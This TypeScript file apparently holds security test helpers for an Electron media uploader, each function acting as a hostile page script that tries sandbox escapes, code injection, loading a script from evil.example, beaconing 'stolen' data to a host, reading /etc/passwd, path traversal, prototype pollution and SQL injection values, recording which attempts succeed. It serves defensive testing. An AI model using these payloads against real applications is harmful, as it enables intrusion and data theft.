/**
 * The attempts of a hostile script. Each function runs alone in the page, so it can use nothing of this file. It returns the
 * names of what it got; an empty list means that everything was refused.
 */
// oxlint-disable unicorn/consistent-function-scoping

/** Tries to reach Node and Electron by all of their names. */
export function reachNode(): string[] {
  const names = [
    'require',
    'process',
    'module',
    'exports',
    'global',
    'Buffer',
    '__dirname',
    'electron',
    'ipcRenderer',
  ];
  const scope = globalThis as unknown as Record<string, unknown>;
  const found = names.filter((name) => scope[name] !== undefined);
  // A function of the bridge must not give access to the preload's world.
  const maker = window.mediamagic?.overview.constructor as FunctionConstructor;
  try {
    if (maker('return typeof process')() !== 'undefined') found.push('the preload’s process');
  } catch {
    // The policy forbids evaluating text.
  }
  return found;
}

/** Tries to replace the bridge, which would reveal every key that is entered. */
export function changeBridge(): string[] {
  const got: string[] = [];
  const scope = window as unknown as Record<string, unknown>;
  const before = window.mediamagic;
  const attempts: [string, () => unknown][] = [
    ['replace the bridge', () => (scope['mediamagic'] = {})],
    ['define it anew', () => Object.defineProperty(window, 'mediamagic', { value: {} })],
    ['delete it', () => Reflect.deleteProperty(window, 'mediamagic')],
    ['replace a call', () => Object.assign(window.mediamagic ?? {}, { saveSettings: () => 'mine' })],
  ];
  for (const [name, attempt] of attempts) {
    const saveBefore = before?.saveSettings;
    try {
      attempt();
    } catch {
      // Refused with an error.
    }
    if (window.mediamagic !== before || window.mediamagic?.saveSettings !== saveBefore) got.push(name);
  }
  return got;
}

export async function runText(): Promise<string[]> {
  const scope = globalThis as unknown as Record<string, unknown>;
  const mark = (name: string) => `globalThis[${JSON.stringify(`ran ${name}`)}] = true`;
  const element = (tag: string, properties: Record<string, unknown>) =>
    document.body.append(Object.assign(document.createElement(tag), properties));
  const url = (text: string, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
  const attempts: Record<string, () => unknown> = {
    // oxlint-disable-next-line no-eval
    eval: () => (0, eval)(mark('eval')),
    // oxlint-disable-next-line no-new-func no-implied-eval
    function: () => new Function(mark('function'))(),
    // oxlint-disable-next-line no-implied-eval
    timer: () => setTimeout(mark('timer')),
    script: () => element('script', { textContent: mark('script') }),
    handler: () => document.body.insertAdjacentHTML('beforeend', `<img src=x onerror='${mark('handler')}'>`),
    address: () => (location.href = `javascript:${mark('address')}`),
    'blob script': () => element('script', { src: url(mark('blob script')) }),
    'data script': () =>
      element('script', { src: `data:text/javascript,${encodeURIComponent(mark('data script'))}` }),
    'remote script': () => element('script', { src: 'https://evil.example/a.js' }),
    'blob module': () => import(/* @vite-ignore */ url(mark('blob module'))),
    'data module': () =>
      import(/* @vite-ignore */ `data:text/javascript,${encodeURIComponent(mark('data module'))}`),
    frame: () =>
      element('iframe', { srcdoc: `<script>top.${mark('frame').slice('globalThis'.length + 0)}</script>` }),
    wasm: async () => {
      await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
      scope['ran wasm'] = true;
    },
    worker: () =>
      new Promise<void>((settle) => {
        const worker = new Worker(url('postMessage(1)'));
        worker.addEventListener('message', () => {
          scope['ran worker'] = true;
          settle();
        });
        worker.addEventListener('error', () => settle());
      }),
    'service worker': async () => {
      await navigator.serviceWorker.register('/assets/worker.js');
      scope['ran service worker'] = true;
    },
  };
  // The policy does not apply while the debugger evaluates the script, but it does after the first pause.
  await new Promise((settle) => setTimeout(settle));
  for (const attempt of Object.values(attempts)) {
    try {
      await attempt();
    } catch {
      // Refused with an error.
    }
  }
  // Everything that was accepted has run after two frames and a task.
  await new Promise((settle) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(settle))));
  return Object.keys(attempts).filter((name) => scope[`ran ${name}`] === true);
}

/** `host` counts connections, so the test checks both these answers and that count. */
export async function reachNetwork(host: string): Promise<string[]> {
  const got: string[] = [];
  const http = `http://${host}`;
  const loaded = (tag: string, properties: Record<string, unknown>) =>
    new Promise<void>((done, refuse) => {
      const element = Object.assign(document.createElement(tag), properties);
      element.addEventListener('load', () => done());
      element.addEventListener('loadeddata', () => done());
      element.addEventListener('error', refuse);
      document.head.append(element);
    });
  const opened = (source: EventTarget) =>
    new Promise<void>((done, refuse) => {
      source.addEventListener('open', () => done());
      source.addEventListener('error', refuse);
    });
  const attempts: Record<string, () => unknown> = {
    fetch: () => fetch(http),
    'fetch without answer': () => fetch(http, { mode: 'no-cors' }),
    xhr: () =>
      new Promise((done, refuse) => {
        const request = new XMLHttpRequest();
        request.addEventListener('load', done);
        request.addEventListener('error', refuse);
        request.open('GET', http);
        request.send();
      }),
    socket: () => opened(new WebSocket(`ws://${host}`)),
    events: () => opened(new EventSource(http)),
    transport: () => new WebTransport(`https://${host}`).ready,
    image: () => loaded('img', { src: `${http}/a.png` }),
    video: () => loaded('video', { src: `${http}/a.mp4`, preload: 'auto' }),
    style: () => loaded('link', { rel: 'stylesheet', href: `${http}/a.css` }),
    font: () => new FontFace('Evil', `url(${http}/a.woff2)`).load(),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      got.push(name);
    } catch {
      // Refused.
    }
  }
  // These attempts do not report whether they succeeded.
  navigator.sendBeacon(http, 'stolen');
  document.body.style.backgroundImage = `url(${http}/b.png)`;
  for (const rel of [
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'preload',
    'modulepreload',
    'icon',
    'manifest',
  ]) {
    document.head.append(
      Object.assign(document.createElement('link'), { rel, as: 'script', href: `${http}/${rel}` }),
    );
  }
  for (const server of [`stun:${host}`, `turn:${host}?transport=udp`, `turn:${host}?transport=tcp`]) {
    try {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: server, username: 'a', credential: 'b' }] });
      peer.createDataChannel('stolen');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise<void>((done) => {
        peer.addEventListener(
          'icegatheringstatechange',
          () => peer.iceGatheringState === 'complete' && done(),
        );
        setTimeout(done, 3_000);
      });
      peer.close();
    } catch {
      // Refused.
    }
  }
  return got;
}

/** `path` is an existing file that is not an upload. */
export async function readFiles(path: string): Promise<string[]> {
  const got: string[] = [];
  const address = `file://${path}`;
  const attempts: Record<string, () => Promise<unknown>> = {
    fetch: () => fetch(address),
    xhr: () =>
      new Promise((done, refuse) => {
        const request = new XMLHttpRequest();
        request.addEventListener('load', done);
        request.addEventListener('error', refuse);
        request.open('GET', address);
        request.send();
      }),
    image: () =>
      new Promise((done, refuse) => {
        const image = new Image();
        image.addEventListener('load', done);
        image.addEventListener('error', refuse);
        image.src = address;
      }),
    'a file that was never dropped': async () => {
      const made = Object.assign(new File(['x'], 'package.json'), { path });
      const report = await window.mediamagic?.addDropped([made]);
      if (report?.outcome === 'added' && report.added === 0) throw new Error('refused');
    },
    'something that is no file': async () => {
      const made = { name: 'package.json', path } as unknown as File;
      const report = await window.mediamagic?.addDropped([made]);
      if (report?.outcome === 'added' && report.added === 0) throw new Error('refused');
    },
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      got.push(name);
    } catch {
      // Refused.
    }
  }
  return got;
}

/** `wanted` is a text in a file beside the page's folder. */
export async function leaveTheFolder(wanted: string): Promise<string[]> {
  const up = [
    '../../package.json',
    '..%2f..%2fpackage.json',
    '%2e%2e/%2e%2e/package.json',
    '..%5c..%5cpackage.json',
  ];
  const paths = [
    ...up.map((path) => `/${path}`),
    ...up.map((path) => `/assets/../../${path}`),
    ...up.map((path) => `/pictures/${path}`),
    '/%252e%252e%252f%252e%252e%252fpackage.json',
    '//etc/passwd',
    '/%2fetc%2fpasswd',
    '/index.html%00.png',
    '/index.html%00',
    '/assets%2f..%2findex.html',
    '/assets%5c..%5cindex.html',
    '/%69ndex.html',
    '/C%3A/index.html',
    '/%E0%A4%A',
    '/.',
    '/assets',
    '/pictures/00000000-0000-4000-8000-00000000000G',
    'app://evil/index.html',
    'app://evil/../uploader/index.html',
  ];
  const got: string[] = [];
  for (const path of paths) {
    try {
      const answer = await fetch(path);
      const text = await answer.text();
      if (answer.ok || text.includes(wanted)) got.push(`${path}: ${answer.status}`);
    } catch {
      // Refused by the policy.
    }
  }
  return got;
}

export async function goElsewhere(host: string): Promise<void> {
  const http = `http://${host}/`;
  const addresses = [
    http,
    'file:///etc/passwd',
    'data:text/html,<p>',
    'app://evil/',
    '/assets/',
    'ms-settings:',
  ];
  for (const address of addresses) {
    for (const go of [
      () => (location.href = address),
      () => location.replace(address),
      () => Object.assign(document.createElement('a'), { href: address }).click(),
      () => {
        const form = Object.assign(document.createElement('form'), { action: address, method: 'post' });
        document.body.append(form);
        form.submit();
      },
    ]) {
      try {
        go();
      } catch {
        // Refused with an error.
      }
      await new Promise((settle) => setTimeout(settle));
    }
  }
  const refresh = Object.assign(document.createElement('meta'), {
    httpEquiv: 'refresh',
    content: `0;url=${http}`,
  });
  document.head.append(refresh);
  for (const properties of [
    { src: http },
    { src: 'file:///etc/passwd' },
    { src: '/index.html' },
    { srcdoc: '<p>' },
  ]) {
    document.body.append(Object.assign(document.createElement('iframe'), properties));
  }
}

export function openWindows(host: string): string[] {
  const got: string[] = [];
  for (const address of [
    `http://${host}/`,
    'about:blank',
    '',
    'file:///etc/passwd',
    '/index.html',
    'smb://host/share',
  ]) {
    if (window.open(address) !== null) got.push(`window.open ${address}`);
    Object.assign(document.createElement('a'), { href: address, target: '_blank' }).click();
  }
  const view = Object.assign(document.createElement('webview'), {
    src: `http://${host}/`,
    nodeintegration: true,
  });
  document.body.append(view);
  if ('executeJavaScript' in view) got.push('webview');
  return got;
}

export function save(): void {
  const href = URL.createObjectURL(new Blob(['MZ']));
  Object.assign(document.createElement('a'), { href, download: 'autorun.exe' }).click();
}

export async function askForPermissions(): Promise<string[]> {
  const browser = navigator as unknown as Record<
    string,
    Record<string, (...args: unknown[]) => Promise<unknown>>
  >;
  const call = async (area: string, name: string, ...args: unknown[]) => {
    const ask = browser[area]?.[name];
    if (ask === undefined) throw new Error('not there');
    return await ask.apply(browser[area], args);
  };
  const granted = (answer: unknown) => {
    if (answer !== 'granted') throw new Error('refused');
  };
  const attempts: Record<string, () => Promise<unknown>> = {
    geolocation: () => new Promise((done, refuse) => navigator.geolocation.getCurrentPosition(done, refuse)),
    camera: () => call('mediaDevices', 'getUserMedia', { video: true }),
    microphone: () => call('mediaDevices', 'getUserMedia', { audio: true }),
    screen: () => call('mediaDevices', 'getDisplayMedia', { video: true }),
    notifications: async () => granted(await Notification.requestPermission()),
    'clipboard read': () => call('clipboard', 'readText'),
    hid: async () => {
      const devices = (await call('hid', 'requestDevice', { filters: [] })) as unknown[];
      if (devices.length === 0) throw new Error('refused');
    },
    serial: () => call('serial', 'requestPort'),
    usb: () => call('usb', 'requestDevice', { filters: [] }),
    bluetooth: () => call('bluetooth', 'requestDevice', { acceptAllDevices: true }),
    midi: () => navigator.requestMIDIAccess({ sysex: true }),
    'screen wake lock': () => call('wakeLock', 'request', 'screen'),
    'persistent storage': async () => {
      if (!(await navigator.storage.persist())) throw new Error('refused');
    },
    'keyboard lock': () => call('keyboard', 'lock'),
    'idle detection': async () => {
      const detector = (globalThis as unknown as { IdleDetector: { requestPermission(): Promise<string> } })
        .IdleDetector;
      granted(await detector.requestPermission());
    },
    fonts: async () => {
      const query = (globalThis as unknown as { queryLocalFonts(): Promise<unknown[]> }).queryLocalFonts;
      if ((await query()).length === 0) throw new Error('refused');
    },
    fullscreen: () => document.documentElement.requestFullscreen(),
    'pointer lock': () =>
      new Promise((done, refuse) => {
        document.addEventListener('pointerlockchange', done);
        document.addEventListener('pointerlockerror', refuse);
        Promise.resolve(document.body.requestPointerLock()).catch(refuse);
      }),
  };
  const got: string[] = [];
  // A device request without a choice is never granted.
  const patience = () => new Promise((_done, refuse) => setTimeout(refuse, 1_500));
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await Promise.race([attempt(), patience()]);
      got.push(name);
    } catch {
      // Refused.
    }
  }
  return got;
}

/** Calls every function with every kind of wrong argument. */
export async function callWrongly(): Promise<string[]> {
  const bridge = window.mediamagic as unknown as Record<string, (args?: unknown) => Promise<unknown>>;
  const id = '00000000-0000-4000-8000-000000000000';
  const polluting = (rest: object) =>
    JSON.parse(
      `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},${JSON.stringify(rest).slice(1)}`,
    );
  const huge = 'x'.repeat(2_000_000);
  const attempts: [string, unknown][] = [
    ...Object.keys(bridge)
      .filter((name) => !['addDropped', 'onChange', 'onNavigationRequest'].includes(name))
      .flatMap((name): [string, unknown][] => [
        [name, { unexpected: true }],
        [name, [id]],
        [name, huge],
        [name, null],
        [name, polluting({ id })],
      ]),
    ['uploadDetails', polluting({ id })],
    ['saveSettings', polluting({ theme: 'dark' })],
    ['saveSettings', { theme: 'dark', encryptedApiKey: '' }],
    ['saveSettings', { theme: 'dark', 'windowBounds.x': 1 }],
    ['saveSettings', { apiUrl: `https://${huge}` }],
    ['saveSettings', { apiKey: huge }],
    ['listUploads', { filter: 'all', search: huge, sort: 'queue', offset: 0, limit: 10 }],
    ['listUploads', { filter: 'all', search: '', sort: 'queue', offset: -1, limit: 10 }],
    ['listUploads', { filter: 'all', search: '', sort: 'queue', offset: 0, limit: Number.NaN }],
    ['listUploads', { filter: 'all', search: '', sort: 'name; DROP TABLE uploads', offset: 0, limit: 10 }],
    ['uploadDetails', { id: `${id}'; DROP TABLE uploads; --` }],
    ['actOnUploads', { action: 'remove', ids: Array.from({ length: 100_001 }, () => id) }],
    ['actOnUploads', { action: 'constructor', ids: [id] }],
    ['openPage', { page: 'file:///etc/passwd' }],
    ['openPage', { page: '__proto__' }],
    ['openPage', { page: 'constructor' }],
    ['openResultLink', { id, link: 'x'.repeat(101) }],
  ];
  const got: string[] = [];
  for (const [name, args] of attempts) {
    const answer = await bridge[name]?.(args).then(
      () => 'accepted',
      (error: Error) => error.message,
    );
    if (answer === undefined || !/argument refused/.test(answer)) {
      got.push(`${name} ${String(JSON.stringify(args)).slice(0, 80)}: ${answer?.slice(0, 80)}`);
    }
  }
  // This matches the contract, but opens nothing, because there is no such link.
  for (const link of ['https://evil.example', 'javascript:alert(1)', '__proto__']) {
    const answer = (await bridge['openResultLink']?.({ id, link })) as { found: boolean };
    if (answer.found) got.push(`openResultLink ${link}`);
  }
  if ('polluted' in {}) got.push('the page’s own prototype');
  return got;
}
